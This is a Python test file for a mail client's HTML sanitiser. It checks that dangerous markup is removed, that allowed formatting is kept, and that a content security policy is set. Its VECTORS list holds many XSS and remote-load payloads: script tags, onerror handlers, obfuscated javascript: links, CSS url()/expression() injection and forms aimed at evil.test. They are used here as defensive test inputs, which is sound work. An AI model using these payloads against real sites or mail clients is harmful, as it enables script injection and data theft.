"""Sanitised HTML: what a browser would make of the result holds only what is allowed."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailcli.message.html_safe import ATTRIBUTES, ELEMENTS, POLICY, PROPERTIES, sanitised

PIXEL = "data:image/png;base64,iVBORw0KGgo="
_FRAME = {"html", "head", "meta", "title", "body"}
_HREF = re.compile(
    r"(?:https?|ftp|mailto|tel|sms|sips?|xmpp|webcal|geo|ircs?|news|nntp|magnet|mid):"
)


class _Browser(HTMLParser):
    """What another parser than ours finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)


def _body(html: str, **images: str) -> str:
    page = sanitised(html, images=images)
    return page.partition("<body>\n")[2].removesuffix("\n</body></html>\n")


def _check(page: str) -> None:
    found = _Browser(page).found
    assert [tag for tag, _ in found[:6]] == ["html", "head", "meta", "meta", "meta", "title"]
    for tag, given_ in found[7:]:
        assert tag in ELEMENTS
        assert given_.keys() <= ATTRIBUTES | {"href", "src", "style", "rel"}
        assert "href" not in given_ or _HREF.match(given_["href"])
        assert "src" not in given_ or given_["src"].startswith("data:image/")
        for part in filter(None, given_.get("style", "").split(";")):
            name, _, value = part.partition(":")
            assert name.strip() in PROPERTIES
            assert not re.search(r"url|expression|import|[\\@<>&\"'/]", value)


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='http://evil.test/p.gif'>",
    "<img srcset='http://evil.test/p.gif 2x'>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='data:image/png;base64,AAAA\" onerror=\"alert(1)'>",
    "<body background='http://evil.test/b.png' onload=alert(1)>",
    "<table background='http://evil.test/b.png'><td background=//evil.test/>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='mailto:javascript%3Aalert(1)@x'>x</a>",
    "<a href='mailto:&#47;&#47;evil.test/@x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=http://x.example/ onclick=alert(1) ping=http://evil.test/>x</a>",
    "<a href='http://x.example/&quot; onclick=&quot;alert(1)'>x</a>",
    "<iframe src=http://evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=http://evil.test/></object><embed src=http://evil.test/>",
    "<video src=http://evil.test/ poster=http://evil.test/><source src=http://evil.test/></video>",
    "<audio src=http://evil.test/></audio><track src=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href=http://evil.test/>",
    "<style>@import 'http://evil.test/x.css'; p{background:url(http://evil.test/)}</style>",
    "<p style='background:url(http://evil.test/)'>",
    "<p style='background-image:url(http://evil.test/)'>",
    "<p style='background:u\\72l(http://evil.test/)'>",
    "<p style='width:expression(alert(1))'>",
    "<p style='behavior:url(#default)'>",
    "<p style='-moz-binding:url(http://evil.test/)'>",
    "<p style='list-style:url(http://evil.test/)'>",
    "<p style='content:image-set(\"http://evil.test/\" 1x)'>",
    "<p style='color:red;/**/background:/*;*/url(http://evil.test/)'>",
    "<p style='font-family:&quot;a;}</style><script>alert(1)</script>&quot;'>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>",
    "<form action=http://evil.test/><input name=p><button formaction=http://evil.test/>x</form>",
    "<isindex action=http://evil.test/>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='http://evil.test/'?>",
    "<p title='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    '<p title="--><script>alert(1)</script>">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<div id=getElementById name=body class=x>",
    "</body></html><script>alert(1)</script>",
    "<p\x00onclick=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "<a href=http://x.example/ target=_top>x",
    "<frameset><frame src=http://evil.test/></frameset>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<p style=color:red onmouseover=alert(1)//",
]


@pytest.mark.parametrize("html", VECTORS)
def test_no_known_trick_gets_through(html: str) -> None:
    page = sanitised(html)
    _check(page)
    assert "evil.test" not in re.sub(r"<[^>]*>", "", page).replace(html, "")


SCRAPS = ["<a href=", '"', "'", "<", ">", "</p>", "<p style=", "url(", ";", "=", " ", "&quot;"]


@given(
    st.one_of(st.text(), st.lists(st.sampled_from([*VECTORS, *SCRAPS]), max_size=6).map("".join))
)
def test_whatever_it_is_given_only_what_is_allowed_comes_out(html: str) -> None:
    _check(sanitised(html))


@given(st.text())
def test_what_was_sanitised_stays_the_same(html: str) -> None:
    once = _body(html)
    assert _body(once) == once


@pytest.mark.parametrize(
    ("html", "body"),
    [
        ("<p align=center>a &amp; b<br>", '<p align="center">a &amp; b<br></p>'),
        ("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c"),
        ('<p style="color:red;position:fixed;margin:0 !important">',
         '<p style="color: red; margin: 0 !important"></p>'),
        ("<p style=\"font-family:'Times New Roman'\">",
         '<p style="font-family: Times New Roman"></p>'),
        ('<a href="https://x.example/?a=1&b=2">x</a>',
         '<a href="{0}" title="{0}" rel="noreferrer noopener">x</a>'
         .format("https://x.example/?a=1&amp;b=2")),
        ('<a href="mailto:a@x.example?bcc=b" title="fake">x</a>',
         '<a href="mailto:a@x.example" title="a@x.example" rel="noreferrer noopener">x</a>'),
        ('<a href="javascript:x">x</a>', "<a>x</a>"),
        ('<img src="https://x.example/a.png" alt="A">', '<img alt="A">'),
        (f'<img src="{PIXEL}">', f'<img src="{PIXEL}">'),
        ("<form><label>a</label><input></form>", "a"),
        ("<head><title>t</title><p>a", "<p>a</p>"),
        ("</b></b>a", "a"),
    ],
)  # fmt: skip
def test_what_arranges_and_colours_is_kept(html: str, body: str) -> None:
    assert _body(html) == body


def test_images_that_came_along_are_shown() -> None:
    images = {"a@x.example": PIXEL, "bad": "https://evil.test/"}
    html = '<img src="cid:a%40x.example"><img src="CID:&lt;a@x.example&gt;"><img src=cid:bad>'
    page = sanitised(html, images=images)
    assert page.count(f'<img src="{PIXEL}">') == 2
    assert "evil.test" not in page


def test_the_document_forbids_the_browser_whatever_it_holds() -> None:
    assert f'content="{POLICY}"' in sanitised("")
    assert "default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'" in POLICY


@pytest.mark.growth
@pytest.mark.parametrize("html", ["<div>" * 20_000, "<svg>" * 20_000, "</b>" * 20_000])
def test_its_time_grows_with_the_length_alone(html: str) -> None:
    _check(sanitised(f"{html}x"))
